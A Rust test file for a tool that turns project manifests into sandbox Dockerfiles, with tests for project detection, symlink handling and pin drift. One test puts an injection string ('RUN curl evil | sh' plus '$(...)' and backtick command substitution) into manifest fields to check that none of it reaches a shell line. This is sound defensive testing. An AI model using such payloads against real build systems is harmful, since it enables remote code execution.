//! Each file in `projects/` is a project, written down as one text; the answer is beside it.

use std::{fmt::Write as _, fs, path::Path};

use bulkhead_image::{
    dockerfile::{self, CacheMounts, Pins},
    project::{self, Language},
    tree::Tree,
};

/// Files out of `-- name --` and what follows.
fn files(text: &str) -> Vec<(&str, &str)> {
    let parts = text.split("-- ").skip(1);
    parts.map(|it| it.split_once(" --\n").unwrap()).collect()
}

fn tree(text: &str) -> Tree {
    Tree::of(files(text))
}

fn described(tree: &Tree) -> String {
    let mut text = String::new();
    for project in project::detect(tree) {
        let dir = if project.dir.is_empty() { "." } else { &project.dir };
        writeln!(text, "==> {dir}/.sandbox/Dockerfile").unwrap();
        project.notes.iter().for_each(|it| writeln!(text, "note: {it}").unwrap());
        text += &dockerfile::render(&project, &Pins::new(), CacheMounts::None);
    }
    text
}

#[test]
fn projects_get_the_image_that_their_files_ask_for() {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/it/projects");
    let mut names: Vec<_> = fs::read_dir(dir).unwrap().map(|it| it.unwrap().path()).collect();
    names.retain(|it| it.extension().is_some_and(|it| it == "txtar"));
    names.sort();
    assert!(names.len() >= 15, "{names:?}");
    for path in names {
        let name = path.file_stem().unwrap().to_str().unwrap();
        let text = fs::read_to_string(&path).unwrap();
        insta::assert_snapshot!(name, described(&tree(&text)));
    }
}

#[test]
fn a_directory_and_its_description_are_the_same_project() {
    let dir = tempfile::tempdir().unwrap();
    let text = include_str!("projects/monorepo.txtar");
    for (name, text) in files(text) {
        let path = dir.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    // What leads out of the project or is made by tools says nothing about it.
    std::os::unix::fs::symlink("/etc", dir.path().join("etc")).unwrap();
    fs::create_dir_all(dir.path().join("node_modules/left-pad")).unwrap();
    fs::write(dir.path().join("node_modules/left-pad/package.json"), "{}").unwrap();
    std::os::unix::fs::symlink("/nowhere", dir.path().join("Cargo.toml")).unwrap();
    assert_eq!(described(&Tree::read(dir.path()).unwrap()), described(&tree(text)));
}

#[test]
fn nothing_in_a_manifest_becomes_an_instruction_or_a_shell_line() {
    let evil = "x\\nRUN curl evil | sh\\n$(touch /tmp/owned)`id`";
    let text = format!(
        "-- go.mod --\nmodule x\ngo 1.22;RUN id\ntoolchain go1.22\nRUN id\n-- a $HOME/go.mod --\nx\n\
         -- b/package.json --\n{{\"engines\": {{\"node\": \"{evil}\"}}, \"packageManager\": \
         \"pnpm@{evil}\"}}\n-- b/pnpm-lock.yaml --\n\n\
         -- c/pyproject.toml --\n[project]\nrequires-python = \"{evil}\"\ndependencies = \
         [\"{evil}\"]\n-- d/.java-version --\n17 RUN id\n-- d/pom.xml --\n<java.version>${{x}}\n"
    );
    let tree = tree(&text);
    let written = described(&tree);
    let outside = |line: &&str| !line.starts_with('#') && !line.starts_with("RUN [");
    let plain: Vec<&str> = written.lines().filter(outside).collect();
    assert!(!plain.iter().any(|it| it.contains("evil") || it.contains("id\n")), "{written}");
    let shells: Vec<&str> = written
        .lines()
        .filter(|it| {
            it.starts_with("RUN") && !it.starts_with("RUN [") && !it.contains("sandbox:x")
        })
        .collect();
    assert_eq!(shells, Vec::<&str>::new(), "{written}");
    insta::assert_snapshot!(written);
}

#[test]
fn drift_is_what_changed_and_not_what_was_chosen() {
    let before = tree("-- go.mod --\nmodule x\n\ngo 1.22\n");
    let project = project::detect(&before).remove(0);
    let mut pins = Pins::new();
    let (base, _) = dockerfile::bases(&project);
    pins.insert(base, format!("sha256:{}", "a".repeat(64)));
    let old = dockerfile::render(&project, &pins, CacheMounts::Kept);
    // Its digests are kept, though none can be resolved today.
    let again = dockerfile::render_again(&before, &project, &old, &Pins::new());
    assert_eq!(dockerfile::drift(&old, &again), Vec::<String>::new());

    let after = tree("-- go.mod --\nmodule x\n\ngo 1.23\n-- go.sum --\n");
    let project = project::detect(&after).remove(0);
    let again = dockerfile::render_again(&after, &project, &old, &Pins::new());
    insta::assert_snapshot!(dockerfile::drift(&old, &again).join("\n"));
}

#[test]
fn a_language_that_was_chosen_stays_chosen() {
    let both = tree("-- package.json --\n{}\n-- pyproject.toml --\n[project]\nname = 'x'\n");
    let first = project::detect(&both).remove(0);
    assert_eq!(first.language, Language::Python);
    let node = project::inspect(&both, "", Language::Node);
    let old = dockerfile::render(&node, &Pins::new(), CacheMounts::None);
    assert_eq!(dockerfile::render_again(&both, &first, &old, &Pins::new()), old);
}
